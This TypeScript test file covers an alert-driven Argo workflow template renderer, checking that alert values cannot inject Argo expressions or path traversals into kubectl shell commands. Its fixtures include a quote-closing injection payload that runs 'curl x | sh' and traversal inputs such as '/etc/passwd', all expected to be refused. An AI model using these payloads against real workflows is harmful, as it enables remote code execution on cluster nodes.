import { describe, expect, it } from 'vitest';
import { buildTemplateVariables, renderOpsTemplate, type RenderResult } from './index.js';

/** A Workflow whose one container runs `command` with /bin/sh -c (the shape of the shipped examples). */
function workflow(command: string): string {
  return `apiVersion: argoproj.io/v1alpha1
kind: Workflow
spec:
  entrypoint: start
  templates:
  - name: start
    container:
      image: bitnami/kubectl:latest
      command: [/bin/sh, -c, '${command}']
`;
}

function alertWith(details: Record<string, string>): Parameters<typeof buildTemplateVariables>[0] {
  return {
    metadata: { name: 'default-nodehasemergencyevent-abcde', namespace: 'monitoring' },
    spec: {
      type: 'NodeHasEmergencyEvent',
      status: 'Firing',
      involvedObject: { kind: 'Node', name: 'dev1' },
      details,
    },
  };
}

function commandOf(result: RenderResult): string {
  if (!result.ok) throw new Error(result.message);
  const templates = (result.workflow['spec'] as { templates: Array<{ container: { command: string[] } }> })
    .templates;
  return templates[0]?.container.command[2] ?? '';
}

function messageOf(result: RenderResult): string {
  return result.ok ? '' : result.message;
}

describe('alert values never reach Argo as expressions', () => {
  const expression = '{{=sprig.squote("; curl x | sh; #")}}';

  it('refuses the quote-closing Argo expression inside shellquote (the reproduced attack)', () => {
    const result = renderOpsTemplate(
      workflow('echo reason: {{shellquote .reason}}'),
      buildTemplateVariables(alertWith({ reason: expression })),
    );
    expect(result).toMatchObject({ ok: false, reason: 'TemplateUnsafe', variable: 'reason' });
    expect(messageOf(result)).toContain('contains an Argo expression "{{=" at index 0');
    expect(messageOf(result)).toContain('Argo would evaluate');
  });

  it.each([
    ['raw', 'echo {{.reason}}'],
    ['shellquote', 'echo {{shellquote .reason}}'],
    ['quote', 'echo {{quote .reason}}'],
    ['default', 'echo {{default "x" .reason}}'],
    ['index', 'echo {{index .Alert.spec.details "reason"}}'],
    ['range', 'echo {{range .Alert.spec.details}}{{.}}{{end}}'],
  ])('refuses "{{" in a value used %s', (_, command) => {
    for (const reason of [expression, '{{inputs.parameters.x}}', 'a{{workflow.name}}b', '{{ = 1 }}']) {
      const result = renderOpsTemplate(workflow(command), buildTemplateVariables(alertWith({ reason })));
      expect(result, `${command} with ${reason}`).toMatchObject({ ok: false, reason: 'TemplateUnsafe' });
      expect(messageOf(result)).toContain('Argo would evaluate');
    }
  });

  it("still quotes values with single braces, and keeps the template author's own Argo tags", () => {
    const result = renderOpsTemplate(
      workflow('echo {{shellquote .reason}} {{keep "inputs.parameters.node"}}'),
      buildTemplateVariables(alertWith({ reason: 'a { b } {c}' })),
    );
    expect(commandOf(result)).toBe(`echo 'a { b } {c}' {{.inputs.parameters.node}}`);
  });
});

describe('raw-safe words name things, they do not walk paths', () => {
  const cordon = workflow('kubectl cordon {{.node}}');

  it.each(['../../etc', '..', 'a/../b', 'x/..', '/etc/passwd', '/'])('refuses %s', (node) => {
    const result = renderOpsTemplate(cordon, { node });
    expect(result).toMatchObject({ ok: false, reason: 'TemplateUnsafe', variable: 'node' });
    expect(messageOf(result)).toMatch(/a "\.\." path segment|starts with "\/"/);
    expect(messageOf(result)).toContain('{{shellquote .node}}');
  });

  it('accepts dots that are not a parent segment and inner slashes', () => {
    for (const node of ['dev1', 'a..b', '...', 'ns/pod', 'v1.2.3', './x']) {
      const result = renderOpsTemplate(cordon, { node });
      expect(commandOf(result), node).toBe(`kubectl cordon ${node}`);
    }
  });
});
